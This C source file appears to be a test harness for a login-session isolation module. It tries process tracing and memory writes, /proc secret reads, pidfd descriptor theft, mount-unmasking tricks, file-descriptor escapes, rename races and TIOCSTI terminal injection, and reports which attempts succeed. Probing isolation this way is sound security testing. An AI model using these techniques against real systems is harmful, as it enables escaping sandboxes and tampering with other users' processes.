// SPDX-License-Identifier: MIT
/*
 * What a user may try against a session, with all that the kernel offers and no shell command does:
 *
 *   attack process PID      trace, read, write, signal and change it
 *   attack helpers SECONDS  the same, against every helper and init that shows up meanwhile
 *   attack stop SECONDS     SIGSTOP to every child of a su, and to helpers, that shows up meanwhile
 *   attack unmask PATH      in user namespaces of our own: get at PATH, which a mount covers;
 *                           with a further argument in our own namespace, to see what could work
 *   attack fds              leave by the file descriptors that we hold; /tmp/of-the-host is the host's
 *   attack swap A B         exchange two names for ever
 *   attack type TEXT        push TEXT into the terminal's input
 *   attack listen NAME      abstract and vsock sockets, until killed; attack reach NAME: connect to them
 *
 * One line "worked: WHAT" for whatever succeeded, "tried N" at the end.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/nsfs.h>
#include <linux/vm_sockets.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/pidfd.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define VSOCK_PORT 7777

static unsigned int tried;

/* One try. What works is said with who it was tried on: a window may show different processes. */
static void note(bool worked, const char *what, const char *on)
{
	tried++;
	if (worked)
		printf("worked: %s %s\n", what, on);
}

static int finish(void)
{
	printf("tried %u\n", tried);
	return 0;
}

static bool exists(const char *path)
{
	return access(path, F_OK) == 0;
}

/* ---- a process that is not ours ---- */

/* Readable by all by the kernel's design: cmdline, comm, stat, status, mountinfo and their like. */
static const char *const secret_files[] = {
	"auxv",	  "environ", "maps",	  "smaps",	"numa_maps", "pagemap",	   "personality",
	"stack",  "syscall", "io",	  "wchan",	"mem",	     "clear_refs", "map_files",
	"fd",	  "fdinfo",  "task/1/fd", "exe",	"cwd",	     "root",	   "ns/mnt",
	"ns/pid", "ns/net",  "root/etc",  "cwd/etc",	"fd/0",	     "fd/3",	   "fd/4",
	"fd/5",	  "fd/6",    "timers",	  "patch_state"};
static const char *const settings[] = {
	"mem",	      "comm",		"oom_score_adj",   "oom_adj",
	"clear_refs", "timens_offsets", "uid_map",	   "gid_map",
	"setgroups",  "attr/current",	"coredump_filter", "loginuid",
	"exe",	      "timerslack_ns",	"autogroup"};

static void try_files(pid_t pid, const char *on)
{
	char path[64], what[64], buf[64];

	for (size_t i = 0; i < sizeof(secret_files) / sizeof(secret_files[0]); i++) {
		int fd;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, secret_files[i]);
		fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		n = fd < 0 ? 0 : read(fd, buf, sizeof(buf));
		snprintf(what, sizeof(what), "reading %s", secret_files[i]);
		/* "0" is what wchan says to those to whom it says nothing. */
		note(n > 1 || (n < 0 && (errno == EISDIR || errno == EINVAL || errno == EIO)), what,
		     on);
		if (fd >= 0)
			close(fd);
		snprintf(what, sizeof(what), "readlink %s", secret_files[i]);
		note(readlink(path, buf, sizeof(buf)) >= 0, what, on);
	}
	for (size_t i = 0; i < sizeof(settings) / sizeof(settings[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, settings[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		snprintf(what, sizeof(what), "writing %s", settings[i]);
		note(fd >= 0 && write(fd, "0", 1) >= 0, what, on);
		if (fd >= 0)
			close(fd);
	}
}

static void try_memory(pid_t pid, const char *on)
{
	static char local[64];
	struct iovec mine = {local, sizeof(local)},
		     theirs = {(void *)(uintptr_t)local, sizeof(local)};
	unsigned long nodes = 1;

	note(ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0, "PTRACE_SEIZE", on);
	note(ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0, "PTRACE_ATTACH", on);
	/* EFAULT would mean: allowed, but nothing lies there. */
	note(process_vm_readv(pid, &mine, 1, &theirs, 1, 0) >= 0 || errno == EFAULT,
	     "process_vm_readv", on);
	note(process_vm_writev(pid, &mine, 1, &theirs, 1, 0) >= 0 || errno == EFAULT,
	     "process_vm_writev", on);
	note(syscall(SYS_kcmp, getpid(), pid, 0, 0, 0) >= 0, "kcmp", on);
	note(syscall(SYS_migrate_pages, pid, 64, &nodes, &nodes) >= 0, "migrate_pages", on);
}

static void try_pidfd(pid_t pid, const char *on)
{
	int pidfd = pidfd_open(pid, 0);
	const int spaces[] = {CLONE_NEWNS,  CLONE_NEWPID, CLONE_NEWNET,
			      CLONE_NEWIPC, CLONE_NEWUTS, CLONE_NEWUSER};

	if (pidfd < 0)
		return;
	for (int fd = 0; fd < 24; fd++)
		note(pidfd_getfd(pidfd, fd, 0) >= 0, "pidfd_getfd", on);
	for (size_t i = 0; i < sizeof(spaces) / sizeof(spaces[0]); i++)
		/* EINVAL is the user namespace that we are in already. */
		note(setns(pidfd, spaces[i]) == 0, "setns of its pidfd", on);
	for (unsigned int cmd = 1; cmd <= 10; cmd++) /* PIDFD_GET_*_NAMESPACE of newer headers */
		note(ioctl(pidfd, _IO(0xFF, cmd), 0) >= 0, "a namespace from its pidfd", on);
	note(pidfd_send_signal(pidfd, SIGKILL, NULL, 0) == 0, "pidfd_send_signal(SIGKILL)", on);
	note(syscall(SYS_process_madvise, pidfd, NULL, 0, 20 /* MADV_COLD */, 0) >= 0,
	     "process_madvise", on);
	close(pidfd);
}

static void try_change(pid_t pid, const char *on)
{
	const struct rlimit none = {0, 0};
	const struct sched_param param = {0};
	cpu_set_t cpus;

	CPU_ZERO(&cpus);
	CPU_SET(0, &cpus);
	note(prlimit(pid, RLIMIT_NOFILE, &none, NULL) == 0, "prlimit", on);
	note(setpriority(PRIO_PROCESS, (id_t)pid, 19) == 0, "setpriority", on);
	note(sched_setaffinity(pid, sizeof(cpus), &cpus) == 0, "sched_setaffinity", on);
	note(sched_setscheduler(pid, SCHED_IDLE, &param) == 0, "sched_setscheduler", on);
	note(syscall(SYS_ioprio_set, 1, pid, 3 << 13) == 0, "ioprio_set", on);
	note(setpgid(pid, 0) == 0, "setpgid", on);
	for (int sig = 1; sig <= SIGRTMAX; sig++) {
		/* Of ourselves as a process inside we know that it is ignored; root alone may send. */
		note(kill(pid, sig) == 0, strsignal(sig), on);
		note(syscall(SYS_tkill, pid, sig) == 0, strsignal(sig), on);
	}
}

static void try_process(pid_t pid, const char *on)
{
	try_files(pid, on);
	try_memory(pid, on);
	try_pidfd(pid, on);
	try_change(pid, on);
}

/* Root over what is ours alone, in a child, which is where that ends. */
static bool become_root(void)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return false;
	fd = open("/proc/self/setgroups", O_WRONLY);
	if (fd < 0 || write(fd, "deny", 4) < 0 || close(fd) < 0)
		return false;
	snprintf(map, sizeof(map), "0 %u 1", uid);
	fd = open("/proc/self/uid_map", O_WRONLY);
	if (fd < 0 || write(fd, map, strlen(map)) < 0 || close(fd) < 0)
		return false;
	snprintf(map, sizeof(map), "0 %u 1", gid);
	fd = open("/proc/self/gid_map", O_WRONLY);
	return fd >= 0 && write(fd, map, strlen(map)) >= 0 && close(fd) == 0;
}

static int process(pid_t pid)
{
	try_process(pid, "as the user");
	if (become_root())
		try_process(pid, "as root of a user namespace");
	else
		perror("no user namespace");
	return finish();
}

/* ---- processes that come and go ---- */

/* Calls each for every process whose parent or name says that it is part of an opening. */
static void look_for(bool (*wanted)(const char *comm, const char *parent), void (*each)(pid_t pid))
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		char path[300], stat[512] = "", parent[32] = "", *end;
		pid_t pid = atoi(entry->d_name), ppid = 0;
		FILE *file;

		if (pid <= 1 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/stat", pid);
		file = fopen(path, "re");
		if (!file)
			continue;
		if (!fgets(stat, sizeof(stat), file))
			stat[0] = '\0';
		fclose(file);
		end = strrchr(stat, ')');
		if (!end || sscanf(end, ") %*c %d", &ppid) != 1)
			continue;
		*end = '\0';
		snprintf(path, sizeof(path), "/proc/%d/comm", ppid);
		file = fopen(path, "re");
		if (file) {
			if (!fgets(parent, sizeof(parent), file))
				parent[0] = '\0';
			fclose(file);
			parent[strcspn(parent, "\n")] = '\0';
		}
		if (strchr(stat, '(') && wanted(strchr(stat, '(') + 1, parent))
			each(pid);
	}
	if (proc)
		closedir(proc);
}

static bool is_helper(const char *comm, const char *parent)
{
	(void)parent;
	return strncmp(comm, "pam_ns", 6) == 0 || (isdigit((unsigned char)comm[0]) && !comm[1]);
}

static bool is_opening(const char *comm, const char *parent)
{
	return is_helper(comm, parent) || (strcmp(comm, "su") == 0 && strcmp(parent, "su") == 0);
}

static void attack_helper(pid_t pid)
{
	try_process(pid, "in the window");
}

static void stop(pid_t pid)
{
	/* A signal that comes through is no break of anything yet: what becomes of it is the test. */
	tried += kill(pid, SIGSTOP) == 0;
}

static int watch(int seconds, bool (*wanted)(const char *, const char *), void (*each)(pid_t))
{
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end)
		look_for(wanted, each);
	return finish();
}

/* ---- what a mount covers ---- */

static const char *covered; /* the path of a file that lies below a mount of the session */
static char top[64];	    /* the first component of its directory: /tmp, /var */

/* Is the file there, at its place or below dir? */
static bool shows(const char *dir)
{
	char path[512];

	snprintf(path, sizeof(path), "%s%s", dir, covered);
	if (exists(covered) || exists(path))
		return true;
	snprintf(path, sizeof(path), "%s%s", dir, covered + strlen(top));
	return exists(path);
}

static void by_umount(const char *dir)
{
	char target[256];

	snprintf(target, sizeof(target), "%s", covered);
	*strrchr(target, '/') = '\0';
	for (int flags = 0; flags < 4; flags++)
		if (umount2(target, flags) == 0)
			break;
	(void)dir;
}

static void by_bind(const char *dir)
{
	if (mount(top, dir, NULL, MS_BIND, NULL) < 0)
		mount("/", dir, NULL, MS_BIND, NULL);
}

static void by_bind_and_umount(const char *dir)
{
	char target[600];

	if (mount("/", dir, NULL, MS_BIND | MS_REC, NULL) < 0)
		return;
	snprintf(target, sizeof(target), "%s%s", dir, covered);
	*strrchr(target, '/') = '\0';
	umount2(target, MNT_DETACH);
}

static void by_move(const char *dir)
{
	char target[256];

	snprintf(target, sizeof(target), "%s", covered);
	*strrchr(target, '/') = '\0';
	mount(target, dir, NULL, MS_MOVE, NULL);
}

static void by_propagation(const char *dir)
{
	mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
	by_bind_and_umount(dir);
	by_umount(dir);
}

static void by_open_tree(const char *dir)
{
	int tree = open_tree(AT_FDCWD, top, OPEN_TREE_CLONE);

	if (tree < 0)
		tree = open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE);
	if (tree >= 0)
		move_mount(tree, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH);
}

/* Looks below the detached copy itself as well: it has no place in any namespace. */
static void by_detached_tree(const char *dir)
{
	int tree = open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE | AT_RECURSIVE), at;
	char target[256];

	snprintf(target, sizeof(target), "%s", covered + 1);
	*strrchr(target, '/') = '\0';
	at = tree < 0 ? -1 : openat(tree, target, O_PATH | O_DIRECTORY);
	if (at < 0)
		return;
	move_mount(at, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH);
	snprintf(target, sizeof(target), "/proc/self/fd/%d", at);
	umount2(target, MNT_DETACH);
	if (fchdir(tree) == 0 && exists(covered + 1))
		note(true, "a detached tree", covered);
}

static void by_move_mount_of_root(const char *dir)
{
	char target[256];
	int fd;

	snprintf(target, sizeof(target), "%s", covered);
	*strrchr(target, '/') = '\0';
	fd = open(target, O_PATH);
	move_mount(fd, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH);
	move_mount(AT_FDCWD, "/", AT_FDCWD, dir, 0);
	close(fd);
}

static void by_pivot_root(const char *dir)
{
	char old[300];

	if (mount("tmpfs", dir, "tmpfs", 0, NULL) < 0)
		return;
	snprintf(old, sizeof(old), "%s/old", dir);
	mkdir(old, 0755);
	if (syscall(SYS_pivot_root, dir, old) < 0)
		return;
	by_umount("/old");
	if (shows("/old"))
		note(true, "pivot_root", covered);
}

static void by_overlay(const char *dir)
{
	char options[600];

	snprintf(options, sizeof(options), "lowerdir=%s:%s", top, dir);
	if (mount("overlay", dir, "overlay", 0, options) < 0) {
		snprintf(options, sizeof(options), "lowerdir=/:%s", dir);
		mount("overlay", dir, "overlay", 0, options);
	}
}

static void by_remount(const char *dir)
{
	char target[256];

	(void)dir;
	snprintf(target, sizeof(target), "%s", covered);
	*strrchr(target, '/') = '\0';
	mount(NULL, target, NULL, MS_REMOUNT | MS_BIND, NULL);
	mount("tmpfs", "/run/pam_ns", NULL, MS_REMOUNT, NULL);
	note(open("/run/pam_ns/session", O_WRONLY) >= 0, "writing in /run/pam_ns", "");
	note(unlink("/run/pam_ns/session") == 0, "removing the session's mark", "");
}

/* Handles of the first inodes of a file system: its root directory is one of them. */
static void by_handle(const char *dir)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + 32];
	} u = {0};
	int root = open("/", O_PATH | O_DIRECTORY), id, fd;

	(void)dir;
	u.handle.handle_bytes = 32;
	note(name_to_handle_at(root, "", &u.handle, &id, AT_EMPTY_PATH) == 0 &&
		     (fd = open_by_handle_at(open("/", O_RDONLY), &u.handle, O_RDONLY)) >= 0,
	     "open_by_handle_at", "/");
}

static void by_setns(const char *dir)
{
	char path[64];

	/* Out by a second namespace: what was locked here must be locked there. */
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		by_umount(dir);
	for (int pid = 1; pid < 64; pid++) {
		snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pid);
		if (setns(open(path, O_RDONLY), CLONE_NEWNS) == 0)
			by_umount(dir);
	}
}

static const struct {
	const char *name;
	void (*by)(const char *dir);
} ways[] = {
	{"umount", by_umount},
	{"bind", by_bind},
	{"recursive bind and umount", by_bind_and_umount},
	{"move", by_move},
	{"shared propagation", by_propagation},
	{"open_tree", by_open_tree},
	{"a detached tree", by_detached_tree},
	{"move_mount", by_move_mount_of_root},
	{"pivot_root", by_pivot_root},
	{"overlay", by_overlay},
	{"remount", by_remount},
	{"open_by_handle_at", by_handle},
	{"namespaces in namespaces", by_setns},
};

static int unmask(const char *path, bool as_we_are)
{
	char dir[] = "/dev/shm/attackXXXXXX";

	covered = path;
	snprintf(top, sizeof(top), "%.*s", (int)strcspn(path + 1, "/") + 1, path);
	if (!mkdtemp(dir))
		return 1;
	note(shows(""), "looking", path);
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		pid_t pid;

		fflush(stdout);
		pid = fork();
		if (pid == 0) {
			if (as_we_are ? unshare(CLONE_NEWNS) < 0 : !become_root())
				printf("worked: not at all: no user namespace\n");
			ways[i].by(dir);
			if (shows(dir))
				note(true, ways[i].name, path);
			fflush(stdout);
			_exit(0);
		}
		tried++;
		waitpid(pid, NULL, 0);
	}
	rmdir(dir);
	return finish();
}

/* ---- the rest ---- */

/* Of the host: its root directory is the session's own too, so up from there it is by what lies in it. */
#define MARK "tmp/of-the-host"

static bool leads_out(int fd)
{
	struct stat root, up;

	if (fchdir(fd) < 0 || stat("/", &root) < 0)
		return false;
	for (int i = 0; i < 40; i++)
		if (exists(MARK) || chdir("..") < 0)
			break;
	return exists(MARK) || (stat(".", &up) == 0 && up.st_ino != root.st_ino);
}

static int leave_by_fds(void)
{
	if (exists("/" MARK))
		return 1; /* nothing would be told from it */
	for (int fd = 0; fd < 1024; fd++) {
		char on[32];

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(on, sizeof(on), "fd %d", fd);
		note(setns(fd, 0) == 0, "setns", on);
		note(leads_out(fd), "fchdir", on);
		note(ioctl(fd, NS_GET_NSTYPE) >= 0, "a namespace's file", on);
		note(ioctl(fd, NS_GET_USERNS) >= 0, "NS_GET_USERNS", on);
		note(ioctl(fd, NS_GET_PARENT) >= 0, "NS_GET_PARENT", on);
		note(pidfd_send_signal(fd, SIGKILL, NULL, 0) == 0, "pidfd_send_signal", on);
		for (int i = 0; i < 24; i++)
			note(pidfd_getfd(fd, i, 0) >= 0, "pidfd_getfd", on);
	}
	return finish();
}

static int swap(const char *a, const char *b)
{
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return 1;
}

static int type(const char *text)
{
	char paste[] = {3 /* TIOCL_PASTESEL */};

	for (const char *p = text; *p; p++)
		note(ioctl(STDIN_FILENO, TIOCSTI, p) == 0, "TIOCSTI", "");
	note(ioctl(STDIN_FILENO, TIOCLINUX, paste) == 0, "TIOCLINUX", "");
	return finish();
}

static socklen_t abstract(const char *name, struct sockaddr_un *addr)
{
	*addr = (struct sockaddr_un){.sun_family = AF_UNIX};
	snprintf(addr->sun_path + 1, sizeof(addr->sun_path) - 1, "%s", name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static int meet(const char *name, bool listening)
{
	struct sockaddr_vm vm = {.svm_family = AF_VSOCK,
				 .svm_port = VSOCK_PORT,
				 .svm_cid = listening ? VMADDR_CID_ANY : VMADDR_CID_LOCAL};
	struct sockaddr_un un;
	socklen_t len = abstract(name, &un);
	int a = socket(AF_UNIX, SOCK_STREAM, 0), v = socket(AF_VSOCK, SOCK_STREAM, 0);

	if (!listening) {
		note(connect(a, (struct sockaddr *)&un, len) == 0, "abstract", name);
		note(connect(v, (struct sockaddr *)&vm, sizeof(vm)) == 0, "vsock", name);
		return finish();
	}
	if (bind(a, (struct sockaddr *)&un, len) < 0 || listen(a, 8) < 0)
		return 1;
	if (bind(v, (struct sockaddr *)&vm, sizeof(vm)) == 0)
		listen(v, 8);
	printf("listening\n");
	fflush(stdout);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	const char *what = argc > 2 || (argc == 2 && strcmp(argv[1], "fds") == 0) ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(what, "process") == 0)
		return process(atoi(argv[2]));
	if (strcmp(what, "helpers") == 0)
		return watch(atoi(argv[2]), is_helper, attack_helper);
	if (strcmp(what, "stop") == 0)
		return watch(atoi(argv[2]), is_opening, stop);
	if (strcmp(what, "unmask") == 0)
		return unmask(argv[2], argc > 3);
	if (strcmp(what, "fds") == 0)
		return leave_by_fds();
	if (strcmp(what, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(what, "type") == 0)
		return type(argv[2]);
	if (strcmp(what, "listen") == 0 || strcmp(what, "reach") == 0)
		return meet(argv[2], what[0] == 'l');
	return 2;
}
